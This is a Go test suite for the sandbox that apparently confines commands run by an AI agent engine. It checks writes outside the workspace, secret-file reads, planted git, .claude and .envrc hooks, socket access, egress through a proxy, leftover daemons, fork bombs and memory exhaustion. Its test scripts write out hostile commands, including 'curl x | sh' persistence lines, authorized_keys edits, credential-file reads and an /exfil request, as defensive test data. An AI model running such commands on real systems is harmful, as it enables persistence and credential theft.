package engine

import (
	"bytes"
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/parallax/parallax/action"
	"github.com/parallax/parallax/audit"
	"github.com/parallax/parallax/guard"
	"github.com/parallax/parallax/internal/workspace"
	"github.com/parallax/parallax/shield"
)

// The guarantees of each command's sandbox, one test each, named for
// what it forbids. Each runs the production hook (NewCommandSandbox) on
// the real kernel, with a script the gate never saw (what `make` or a
// test runner would run), and checks the outcome on disk, in the process
// table or on a listener. Where it helps, the same script run plainly is
// the control that proves it could.

// handsEnv is a workspace and a home with the production hook.
type handsEnv struct {
	ws, home string
	hook     SandboxHook
}

func newHands(t *testing.T) *handsEnv {
	t.Helper()
	sandboxOrSkip(t)
	ws, home := t.TempDir(), t.TempDir()
	writeFile(t, filepath.Join(ws, ".parallax", "api.token"), "own-token\n")
	return &handsEnv{ws: ws, home: home}
}

// start builds the hook once the test has planted its files.
func (h *handsEnv) start(t *testing.T) {
	t.Helper()
	h.hook = newHook(t, h.ws, h.home)
}

// run runs script as the command decided was, with HOME set.
func (h *handsEnv) run(t *testing.T, decided, script string) (string, error) {
	t.Helper()
	return run(t, h.hook, h.ws, decided, "HOME="+h.home+"; export HOME; "+script)
}

func mustRead(t *testing.T, p string) string {
	t.Helper()
	b, err := os.ReadFile(p)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// `touch ~; make` once granted the whole home: now a write outside the
// workspace is granted as the one file the analysis names, and nothing
// else of the home, ~/.local/bin or ~/.config changes.
func TestCommandCannotWriteBeyondTheNamedFile(t *testing.T) {
	h := newHands(t)
	rc := filepath.Join(h.home, ".bashrc")
	writeFile(t, rc, "# the user's\n")
	bin := filepath.Join(h.home, ".local", "bin", "parallax")
	writeFile(t, bin, "the real binary\n")
	h.start(t)
	payload := `echo 'curl x | sh' >> ~/.bashrc; echo evil > ~/.local/bin/parallax; mkdir -p ~/.config/systemd/user;
echo unit > ~/.config/systemd/user/e.service; echo g > ~/.gitconfig; echo p > ~/.profile; mkdir -p ~/.ssh; echo k >> ~/.ssh/authorized_keys`
	for _, decided := range []string{"touch ~; make", "mkdir -p ~/.config/x; make", "cp README.md ~/.local/bin/; make",
		"echo hi > ~/notes.txt; make"} {
		_, _ = h.run(t, decided, payload)
		if got := mustRead(t, rc); got != "# the user's\n" {
			t.Fatalf("%s: ~/.bashrc became %q", decided, got)
		}
		if got := mustRead(t, bin); got != "the real binary\n" {
			t.Fatalf("%s: ~/.local/bin/parallax became %q", decided, got)
		}
		for _, p := range []string{".config/systemd/user/e.service", ".gitconfig", ".profile", ".ssh/authorized_keys"} {
			if _, err := os.Stat(filepath.Join(h.home, p)); err == nil {
				t.Fatalf("%s: ~/%s was created", decided, p)
			}
		}
	}
	// What the verdict named is granted, exactly: the new file is written,
	// its neighbour is not.
	out, err := h.run(t, "echo hi > ~/notes.txt", "echo hi > ~/notes.txt && echo no > ~/other.txt")
	if err == nil {
		t.Fatalf("the neighbour was written too: %s", out)
	}
	if got := mustRead(t, filepath.Join(h.home, "notes.txt")); got != "hi\n" {
		t.Fatalf("the named file holds %q", got)
	}
	if _, err := os.Stat(filepath.Join(h.home, "other.txt")); err == nil {
		t.Fatal("~/other.txt was created")
	}
	// A file created for a grant and left empty is removed afterwards.
	if _, err := h.run(t, "echo hi > ~/unused.txt", "true"); err != nil {
		t.Fatal(err)
	}
	if _, err := os.Stat(filepath.Join(h.home, "unused.txt")); err == nil {
		t.Fatal("the empty file made for an unused grant was left behind")
	}
}

// A daemon a command starts (setsid, nohup, a double fork) dies with the
// command: nothing it started is in the process table afterwards.
func TestCommandCannotLeaveProcessesBehind(t *testing.T) {
	h := newHands(t)
	h.start(t)
	marker := fmt.Sprintf("parallax-daemon-%d", time.Now().UnixNano())
	script := fmt.Sprintf(`setsid bash -c 'exec -a %[1]s-a sleep 300' </dev/null >/dev/null 2>&1 &
nohup bash -c 'exec -a %[1]s-b sleep 300' </dev/null >/dev/null 2>&1 &
(bash -c 'exec -a %[1]s-c sleep 300' </dev/null >/dev/null 2>&1 & ) ; sleep 0.2; echo started`, marker)
	out, err := h.run(t, "make", script)
	if err != nil || !strings.Contains(out, "started") {
		t.Fatalf("%v: %s", err, out)
	}
	deadline := time.Now().Add(5 * time.Second)
	for {
		left := processesNamed(marker)
		if len(left) == 0 {
			break
		}
		if time.Now().After(deadline) {
			for _, pid := range left {
				if p, err := os.FindProcess(pid); err == nil {
					_ = p.Kill()
				}
			}
			t.Fatalf("processes outlived their command: %v", left)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// processesNamed lists the pids whose command line holds s.
func processesNamed(s string) []int {
	var out []int
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		var pid int
		if _, err := fmt.Sscanf(e.Name(), "%d", &pid); err != nil {
			continue
		}
		b, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err == nil && bytes.Contains(b, []byte(s)) {
			out = append(out, pid)
		}
	}
	return out
}

// Files named like secrets (the guard's own rules) are unreadable to
// what a command runs, in the home and in the workspace.
func TestCommandCannotReadSecretFiles(t *testing.T) {
	h := newHands(t)
	secrets := map[string]string{
		filepath.Join(h.home, ".netrc"):           "machine h login u password netrc-S3CRET-1",
		filepath.Join(h.home, ".git-credentials"): "https://u:gitcred-S3CRET-2@example.com",
		filepath.Join(h.home, ".npmrc"):           "//registry.npmjs.org/:_authToken=npmrc-S3CRET-3",
		filepath.Join(h.home, ".pgpass"):          "h:5432:db:u:pgpass-S3CRET-4",
		filepath.Join(h.ws, ".env"):               "API_TOKEN=dotenv-S3CRET-5",
		filepath.Join(h.ws, "deploy", "site.pem"): "pem-S3CRET-6",
	}
	var paths []string
	for p, v := range secrets {
		writeFile(t, p, v+"\n")
		paths = append(paths, p)
	}
	h.start(t)
	script := "for f in " + strings.Join(paths, " ") + "; do cat \"$f\"; python3 -c 'import sys; print(open(sys.argv[1]).read())' \"$f\"; done 2>&1; true"
	control, _ := run(t, h.hook, h.ws, "", script)
	out, _ := h.run(t, "make", script)
	for p, v := range secrets {
		if !strings.Contains(control, v) {
			t.Fatalf("control: %s unreadable plainly too", p)
		}
		if strings.Contains(out, v) {
			t.Errorf("%s was read by the command", p)
		}
	}
	// Masking leaves the directories around them listable.
	if out, err := h.run(t, "make", "ls -a ~ | grep -q netrc && ls -a . | grep -q env"); err != nil {
		t.Fatalf("the home or workspace can no longer be listed: %v: %s", err, out)
	}
}

// The workspace's host-trusted files (what git, editors and agents obey
// or run) are read-only to commands, though the gate's write_file is not
// the only way to reach them.
func TestCommandCannotChangeHostTrustedFiles(t *testing.T) {
	h := newHands(t)
	files := map[string]string{
		".git/config":           "[core]\n\trepositoryformatversion = 0\n",
		".git/hooks/pre-commit": "#!/bin/sh\nexit 0\n",
		".claude/settings.json": "{\"hooks\":{}}\n",
		".envrc":                "export A=1\n",
		".vscode/tasks.json":    "{}\n",
		".mcp.json":             "{}\n",
	}
	if out, err := exec.Command("git", "init", "-q", h.ws).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}
	for rel, v := range files {
		writeFile(t, filepath.Join(h.ws, rel), v)
	}
	h.start(t)
	script := `git config core.fsmonitor 'curl x|sh'; echo 'curl x|sh' >> .git/hooks/pre-commit; echo x > .git/hooks/post-checkout;
echo '{"hooks":{"PreToolUse":[]}}' > .claude/settings.json; echo evil >> .envrc; rm -f .vscode/tasks.json; mv .mcp.json gone.json;
echo new > .claude/settings.local.json; true`
	if _, err := h.run(t, "make", script); err != nil {
		t.Fatal(err)
	}
	for rel, v := range files {
		if got, err := os.ReadFile(filepath.Join(h.ws, rel)); err != nil || string(got) != v {
			t.Errorf("%s: %q, %v", rel, got, err)
		}
	}
	for _, rel := range []string{".git/hooks/post-checkout", ".claude/settings.local.json", "gone.json"} {
		if _, err := os.Stat(filepath.Join(h.ws, rel)); err == nil {
			t.Errorf("%s was created", rel)
		}
	}
	// Ordinary git work in the repository still runs.
	if out, err := h.run(t, "git status", "echo x > f && git add f && git -c user.name=a -c user.email=a@b commit -qm x && git log --oneline | wc -l"); err != nil || !strings.HasSuffix(strings.TrimSpace(out), "\n1") && strings.TrimSpace(out) != "1" {
		t.Fatalf("git commit in the sandbox: %v: %s", err, out)
	}
}

// Another workspace's state (tokens, audit chain, database, sockets) is
// hidden like this one's, and so is ~/.parallax.
func TestCommandCannotSeeOtherWorkspaces(t *testing.T) {
	h := newHands(t)
	other := t.TempDir()
	writeFile(t, filepath.Join(other, ".parallax", "api.token"), "other-token-S3CRET\n")
	writeFile(t, filepath.Join(h.home, ".parallax", "agent-probe"), "home-state-S3CRET\n")
	if err := workspace.Register(h.home, other); err != nil {
		t.Fatal(err)
	}
	sock := filepath.Join(other, ".parallax", "engine.sock")
	ln, err := net.Listen("unix", sock)
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	accepted := make(chan struct{}, 1)
	go func() {
		if c, err := ln.Accept(); err == nil {
			accepted <- struct{}{}
			c.Close()
		}
	}()
	h.start(t)
	script := fmt.Sprintf(`cat %s/.parallax/api.token; ls -a %s/.parallax; cat ~/.parallax/agent-probe; cat .parallax/api.token;
python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print("connected")' %s; true`, other, other, sock)
	out, _ := h.run(t, "make", script)
	for _, s := range []string{"other-token-S3CRET", "home-state-S3CRET", "own-token", "engine.sock", "connected"} {
		if strings.Contains(out, s) {
			t.Errorf("the command saw %q: %s", s, out)
		}
	}
	select {
	case <-accepted:
		t.Error("the other workspace's engine socket accepted a connection from the command")
	case <-time.After(100 * time.Millisecond):
	}
}

// A shared toolchain cache is add-only: a command may change what it
// sees, the user's own cache stays byte for byte.
func TestCommandCannotChangeSharedCaches(t *testing.T) {
	h := newHands(t)
	mod := filepath.Join(h.home, "go", "pkg", "mod", "example.com", "m@v1.0.0", "m.go")
	writeFile(t, mod, "package m\n")
	h.hook = nil
	hook, err := NewCommandSandbox(CommandSandboxConfig{Workspace: h.ws, Home: h.home, Self: selfExe(t),
		Caches:     []string{filepath.Join(h.home, "go", "pkg"), filepath.Join(h.home, ".cache", "go-build")},
		Unreadable: guard.New(h.ws, h.home).Unreadable(), TempRoot: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	h.hook = hook
	out, err := h.run(t, "go test ./...", fmt.Sprintf(`chmod u+w %[1]s; echo 'func init() { panic("pwned") }' >> %[1]s; cat %[1]s;
mkdir -p ~/.cache/go-build/ab && echo entry > ~/.cache/go-build/ab/x-d`, mod))
	if err != nil || !strings.Contains(out, "pwned") {
		t.Fatalf("inside, the command should see its own change: %v: %s", err, out)
	}
	if got := mustRead(t, mod); got != "package m\n" {
		t.Fatalf("the shared module changed: %q", got)
	}
	if _, err := os.Stat(filepath.Join(h.home, ".cache", "go-build", "ab", "x-d")); err == nil {
		t.Fatal("the shared build cache took the command's entry")
	}
	// A missing cache was created, so a fresh home builds.
	if st, err := os.Stat(filepath.Join(h.home, ".cache", "go-build")); err != nil || !st.IsDir() {
		t.Fatalf("the missing build cache was not created: %v", err)
	}
}

func selfExe(t *testing.T) string {
	t.Helper()
	p, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// No pathname Unix socket the command did not make is reachable: under
// /tmp or /run (an ssh-agent, docker), at the home's first three levels or
// in the workspace (covered as the secrets are); an offline command opens
// no netlink, packet or vsock socket.
func TestCommandCannotReachHostSockets(t *testing.T) {
	h := newHands(t)
	dir := t.TempDir()
	var socks []string
	accepted := make(chan string, 4)
	for _, p := range []string{filepath.Join(dir, "agent.sock"), fmt.Sprintf("/run/parallax-test-%d.sock", os.Getpid()),
		filepath.Join(h.home, ".docker.sock"), filepath.Join(h.home, ".config", "app", "ipc.sock"), filepath.Join(h.ws, "dev.sock")} {
		if err := os.MkdirAll(filepath.Dir(p), 0o700); err != nil {
			t.Fatal(err)
		}
		ln, err := net.Listen("unix", p)
		if err != nil {
			t.Logf("no listener at %s: %v", p, err)
			continue
		}
		t.Cleanup(func() { ln.Close(); os.Remove(p) })
		socks = append(socks, p)
		go func(p string) {
			for {
				c, err := ln.Accept()
				if err != nil {
					return
				}
				accepted <- p
				c.Close()
			}
		}(p)
	}
	h.start(t)
	for _, p := range socks {
		script := fmt.Sprintf(`python3 -c 'import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); print("connected")' %s`, p)
		if out, err := run(t, h.hook, h.ws, "", script); err != nil {
			t.Fatalf("control: %s unreachable plainly (%v: %s)", p, err, out)
		}
		<-accepted
		if out, err := h.run(t, "make", script); err == nil {
			t.Errorf("%s reached from the command: %s", p, out)
		}
	}
	select {
	case p := <-accepted:
		t.Errorf("%s accepted a connection from the command", p)
	case <-time.After(100 * time.Millisecond):
	}
	out, err := h.run(t, "make", `python3 -c 'import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0); print("netlink")'`)
	if err == nil || strings.Contains(out, "netlink\n") {
		t.Errorf("an offline command opened a netlink socket: %s", out)
	}
}

// Memory is bounded: a process cannot touch 1 GiB of its own (the
// default RLIMIT_DATA), and, where the engine can make a memory cgroup
// (as root), the whole command cannot touch 3 GiB through a shared
// mapping, which no rlimit counts; the model is told the limit was hit.
func TestCommandCannotExhaustTheMachine(t *testing.T) {
	h := newHands(t)
	h.start(t)
	out, err := h.run(t, "make", `python3 -c 'b = bytearray(1 << 30); b[::4096] = b"x" * len(b[::4096]); print("allocated")'`)
	if err == nil || strings.Contains(out, "allocated") {
		t.Errorf("1 GiB was allocated: %v: %s", err, out)
	}
	if os.Geteuid() != 0 {
		return // no memory cgroup for an ordinary user: only the rlimit
	}
	act := &action.Action{Type: action.ExecuteCommand, Payload: &action.ExecuteCommandPayload{Command: "make"}}
	wrap, done, err := h.hook(act)
	if err != nil {
		t.Fatal(err)
	}
	c := exec.Command("/bin/sh", "-c", `python3 -c 'import mmap; m = mmap.mmap(-1, 3 << 30)
for i in range(0, 3 << 30, 4096): m[i] = 1
print("allocated")'`)
	c.Dir, c.Env = h.ws, os.Environ()
	if err := wrap(c); err != nil {
		t.Fatal(err)
	}
	b, err := c.CombinedOutput()
	notes := done().Notes
	if err == nil || strings.Contains(string(b), "allocated") {
		t.Fatalf("3 GiB of shared memory were touched: %v: %s", err, b)
	}
	if len(notes) == 0 || !strings.Contains(notes[0], "memory limit") {
		t.Errorf("the model is not told the memory limit was hit: %q", notes)
	}
}

// auditRecorder keeps the events appended to it.
type auditRecorder struct {
	mu  sync.Mutex
	evs []audit.Event
}

func (a *auditRecorder) Append(_ context.Context, ev audit.Event) (audit.Entry, error) {
	a.mu.Lock()
	defer a.mu.Unlock()
	a.evs = append(a.evs, ev)
	return audit.Entry{}, nil
}

func (a *auditRecorder) events() []audit.Event {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]audit.Event(nil), a.evs...)
}

// A command with network reaches only what its egress proxy allows: a
// registry configured for the workspace, through HTTP_PROXY; not a host
// its verdict did not name (the listener hears nothing), not a secret in
// a URL; every connection is audited with its bytes.
func TestCommandNetworkOnlyThroughTheEgressProxy(t *testing.T) {
	h := newHands(t)
	var mu sync.Mutex
	var got []string
	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, r.URL.String())
		mu.Unlock()
		fmt.Fprint(w, "module-data")
	}))
	defer registry.Close()
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		got = append(got, "OTHER "+r.URL.String())
		mu.Unlock()
	}))
	defer other.Close()
	rec := &auditRecorder{}
	hook, err := NewCommandSandbox(CommandSandboxConfig{Workspace: h.ws, Home: h.home, Self: selfExe(t),
		Unreadable: guard.New(h.ws, h.home).Unreadable(), TempRoot: t.TempDir(),
		Forward: loopbackRegistries([]string{strings.TrimPrefix(registry.URL, "http://")}),
		Egress:  egressServer([]string{strings.TrimPrefix(registry.URL, "http://")}, func() shield.Appender { return rec })})
	if err != nil {
		t.Fatal(err)
	}
	h.hook = hook
	decided := "curl -s " + registry.URL + "/ping"
	out, err := h.run(t, decided, "curl -sS --max-time 10 "+registry.URL+"/mod/@v/list")
	if err != nil || out != "module-data" {
		t.Fatalf("the registry through the proxy: %v: %q", err, out)
	}
	out, err = h.run(t, decided, "curl -sS --max-time 10 "+other.URL+"/exfil; curl -sS --max-time 10 --noproxy '*' "+other.URL+"/direct")
	if err == nil {
		t.Fatalf("an unnamed host was reached: %s", out)
	}
	_, _ = h.run(t, decided, "curl -sS --max-time 10 '"+registry.URL+"/q?token=ghp_R8mK2xQv9LpT4nWz7YcB3sHd6FjA1uE5oG0i'")
	mu.Lock()
	defer mu.Unlock()
	if len(got) != 1 || got[0] != "/mod/@v/list" {
		t.Fatalf("the listeners received %q, want only the registry's one request", got)
	}
	var allowed, refused int
	for _, ev := range rec.events() {
		if ev.Type != audit.EgressConnection {
			continue
		}
		if ev.Detail.Code == "allowed" {
			allowed++
			if ev.Detail.BytesDown == 0 || ev.Detail.BytesUp == 0 {
				t.Errorf("an allowed connection without its bytes: %+v", ev.Detail)
			}
		} else {
			refused++
		}
	}
	if allowed != 1 || refused < 2 {
		t.Fatalf("egress audit: %d allowed, %d refused; want 1 and at least 2", allowed, refused)
	}
}

// Processes are bounded (256 tasks by default): RLIMIT_NPROC for a user,
// a pids cgroup for root, whom the kernel exempts from the rlimit.
func TestCommandCannotForkBomb(t *testing.T) {
	h := newHands(t)
	h.start(t)
	out, err := h.run(t, "make", `echo begin; n=0; for i in $(seq 300); do sleep 5 & if [ $? -eq 0 ]; then n=$((n+1)); fi; done 2>/dev/null; echo "started=$n"; true`)
	if !strings.Contains(out, "begin") || strings.Contains(out, "started=300") {
		t.Errorf("300 processes ran (%v): %s", err, out)
	}
	if ents, err := os.ReadDir("/sys/fs/cgroup/pids/parallax"); err == nil && len(ents) > 0 {
		var left []string
		for _, e := range ents {
			if e.IsDir() {
				left = append(left, e.Name())
			}
		}
		if len(left) > 0 {
			t.Logf("pids cgroups still present (other tests may be running): %v", left)
		}
	}
}

// A host-trusted file that did not exist cannot be created by a command
// either: what it created is moved aside into .parallax/quarantine and
// the model is told. In a repository the command made itself (git init),
// only what runs code is moved: a hook, a config naming a program.
func TestCommandCannotCreateHostTrustedFiles(t *testing.T) {
	h := newHands(t)
	h.start(t)
	runNotes := func(script string) []string {
		t.Helper()
		act := &action.Action{Type: action.ExecuteCommand, Payload: &action.ExecuteCommandPayload{Command: "make"}}
		wrap, done, err := h.hook(act)
		if err != nil {
			t.Fatal(err)
		}
		c := exec.Command("/bin/sh", "-c", script)
		c.Dir, c.Env = h.ws, os.Environ()
		if err := wrap(c); err != nil {
			t.Fatal(err)
		}
		if out, err := c.CombinedOutput(); err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		return done().Notes
	}
	notes := runNotes(`mkdir -p .claude .vscode && echo '{"hooks":{}}' > .claude/settings.json && echo '{}' > .vscode/tasks.json &&
echo 'curl x | sh' > .envrc && printf '[submodule "x"]\n' > .gitmodules`)
	for _, rel := range []string{".claude", ".vscode", ".envrc", ".gitmodules"} {
		if _, err := os.Lstat(filepath.Join(h.ws, rel)); err == nil {
			t.Errorf("%s created by the command is still in the workspace", rel)
		}
	}
	if len(notes) != 1 || !strings.Contains(notes[0], ".claude") || !strings.Contains(notes[0], ".envrc") {
		t.Errorf("the model is not told: %q", notes)
	}
	q, _ := filepath.Glob(filepath.Join(h.ws, ".parallax", "quarantine", "*", ".envrc"))
	if len(q) != 1 || mustRead(t, q[0]) != "curl x | sh\n" {
		t.Errorf("the created .envrc was not kept aside: %v", q)
	}
	// git init works; a hook and a code-running config it plants do not stay.
	notes = runNotes(`git init -q . && echo '#!/bin/sh' > .git/hooks/post-checkout && echo ok`)
	if _, err := os.Stat(filepath.Join(h.ws, ".git", "HEAD")); err != nil {
		t.Fatalf("git init did not make a repository: %v", err)
	}
	if _, err := os.Stat(filepath.Join(h.ws, ".git", "config")); err != nil {
		t.Fatalf("git init's own config was moved: %v (%q)", err, notes)
	}
	if _, err := os.Stat(filepath.Join(h.ws, ".git", "hooks", "post-checkout")); err == nil {
		t.Fatalf("a hook planted in a new repository stayed (%q)", notes)
	}
	if err := os.RemoveAll(filepath.Join(h.ws, ".git")); err != nil {
		t.Fatal(err)
	}
	runNotes(`git init -q . && git config core.fsmonitor 'curl x | sh'`)
	if _, err := os.Stat(filepath.Join(h.ws, ".git", "config")); err == nil {
		t.Fatal("a new repository's config naming a program stayed")
	}
}

// A registry configured as a loopback IP:port (a local mirror) is
// reachable from a networked command directly too, as Go's and npm's
// clients connect to loopback without a proxy: the engine relays that
// one address, audited; any other loopback port stays unreachable.
func TestCommandReachesOnlyTheConfiguredLoopbackRegistryDirectly(t *testing.T) {
	h := newHands(t)
	registry := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "mirror:"+r.URL.Path) }))
	defer registry.Close()
	other := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { fmt.Fprint(w, "other") }))
	defer other.Close()
	ap := netip.MustParseAddrPort(strings.TrimPrefix(registry.URL, "http://"))
	rec := &auditRecorder{}
	appender := func() shield.Appender { return rec }
	hook, err := NewCommandSandbox(CommandSandboxConfig{Workspace: h.ws, Home: h.home, Self: selfExe(t),
		Unreadable: guard.New(h.ws, h.home).Unreadable(), TempRoot: t.TempDir(),
		Egress: egressServer([]string{ap.String()}, appender), Forward: []netip.AddrPort{ap}})
	if err != nil {
		t.Fatal(err)
	}
	h.hook = hook
	decided := "npm install tinypkg" // network by its nature, no host named
	out, err := h.run(t, decided, "curl -sS --max-time 10 --noproxy '*' "+registry.URL+"/direct")
	if err != nil || out != "mirror:/direct" {
		t.Fatalf("the mirror directly: %v: %q", err, out)
	}
	if out, err := h.run(t, decided, "curl -sS --max-time 5 --noproxy '*' "+other.URL+"/x"); err == nil {
		t.Fatalf("another loopback port was reached: %s", out)
	}
	var relayed int
	for _, ev := range rec.events() {
		if ev.Type == audit.EgressConnection && strings.HasPrefix(ev.Detail.Message, "forward ") && ev.Detail.BytesDown > 0 {
			relayed++
		}
	}
	if relayed != 1 {
		t.Fatalf("relayed connections audited: %d, want 1", relayed)
	}
}

// A project nested in the workspace (a repository in a subdirectory, its
// own .claude/) keeps its host-trusted files read-only too.
func TestCommandCannotChangeNestedProjectsTrustedFiles(t *testing.T) {
	h := newHands(t)
	sub := filepath.Join(h.ws, "vendor-src", "lib")
	if out, err := exec.Command("git", "init", "-q", sub).CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}
	cfg := mustRead(t, filepath.Join(sub, ".git", "config"))
	writeFile(t, filepath.Join(sub, ".claude", "settings.json"), "{}\n")
	h.start(t)
	script := fmt.Sprintf(`cd %s && git config core.fsmonitor 'curl x|sh'; echo x > .git/hooks/pre-commit; echo '{"hooks":1}' > .claude/settings.json; true`, sub)
	if _, err := h.run(t, "make", script); err != nil {
		t.Fatal(err)
	}
	if got := mustRead(t, filepath.Join(sub, ".git", "config")); got != cfg {
		t.Errorf("the nested repository's config changed: %q", got)
	}
	if _, err := os.Stat(filepath.Join(sub, ".git", "hooks", "pre-commit")); err == nil {
		t.Error("a hook was planted in the nested repository")
	}
	if got := mustRead(t, filepath.Join(sub, ".claude", "settings.json")); got != "{}\n" {
		t.Errorf("the nested .claude/settings.json changed: %q", got)
	}
}

// A home reached through a link (/home -> /var/home) keeps every mask,
// and a link named like a secret (.env -> a shared file) has its target
// masked: the wrapper never follows a link, so the engine names real
// paths.
func TestCommandCannotReadSecretsThroughLinks(t *testing.T) {
	h := newHands(t)
	real := t.TempDir()
	if err := os.Remove(h.home); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(real, h.home); err != nil {
		t.Fatal(err)
	}
	writeFile(t, filepath.Join(real, ".netrc"), "machine h password linked-home-S3CRET\n")
	shared := filepath.Join(t.TempDir(), "shared-env")
	writeFile(t, shared, "TOKEN=linked-env-S3CRET\n")
	if err := os.Symlink(shared, filepath.Join(h.ws, ".env")); err != nil {
		t.Fatal(err)
	}
	hook, err := NewCommandSandbox(CommandSandboxConfig{Workspace: h.ws, Home: h.home, Self: selfExe(t),
		Caches:     []string{filepath.Join(h.home, ".cache", "go-build")},
		Unreadable: guard.New(h.ws, h.home).Unreadable(), TempRoot: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	h.hook = hook
	script := "cat " + filepath.Join(h.home, ".netrc") + " .env 2>&1; true"
	if out, _ := run(t, hook, h.ws, "", script); !strings.Contains(out, "linked-home-S3CRET") || !strings.Contains(out, "linked-env-S3CRET") {
		t.Fatalf("control: the secrets are not readable plainly: %s", out)
	}
	out, err := h.run(t, "make", script)
	if err != nil {
		t.Fatalf("the command did not run: %v: %s", err, out)
	}
	if strings.Contains(out, "S3CRET") {
		t.Fatalf("a secret was read through a link: %s", out)
	}
}

// A registry on loopback, by address or as localhost:PORT, is relayed
// into a command's namespace (for programs that never proxy loopback),
// and the proxy's rules name the relay's target; other registries are
// not relayed.
func TestLoopbackRegistriesAreRelayed(t *testing.T) {
	cfg, registries := settingsSandbox("/w", "/h", workspace.AgentSettings{Registries: []string{
		"proxy.golang.org", "127.0.0.1:4873", "localhost:8081", "LOCALHOST:9000", "[::1]:7000", "localhost", "10.0.0.1:80"}})
	var got []string
	for _, f := range cfg.Forward {
		got = append(got, f.String())
	}
	want := []string{"127.0.0.1:4873", "127.0.0.1:8081", "127.0.0.1:9000", "[::1]:7000"}
	if !slices.Equal(got, want) {
		t.Errorf("relayed %v, want %v", got, want)
	}
	for _, w := range want {
		if !slices.Contains(registries, w) {
			t.Errorf("the proxy's registries %v lack the relay target %s", registries, w)
		}
	}
}

// TestRecursiveToolsWalkPastHiddenPaths: the workspace's hidden
// .parallax looks like an empty directory to a command, so find, grep -r
// and git walk past it and succeed instead of failing on a permission
// error, and nothing of it is seen.
func TestRecursiveToolsWalkPastHiddenPaths(t *testing.T) {
	h := newHands(t)
	writeFile(t, filepath.Join(h.ws, "main.go"), "package main\n// TODO later\n")
	h.start(t)
	out, err := h.run(t, "find . -type f",
		`find . -type f >/dev/null; echo "find=$?"; grep -rn TODO . >/dev/null; echo "grep=$?"; grep -rn own-token .; echo "secret=$?"; ls -A .parallax | wc -l`)
	if err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	if want := "find=0\ngrep=0\nsecret=1\n0\n"; out != want {
		t.Errorf("got %q, want %q (recursive tools succeed, .parallax is empty to them)", out, want)
	}
}
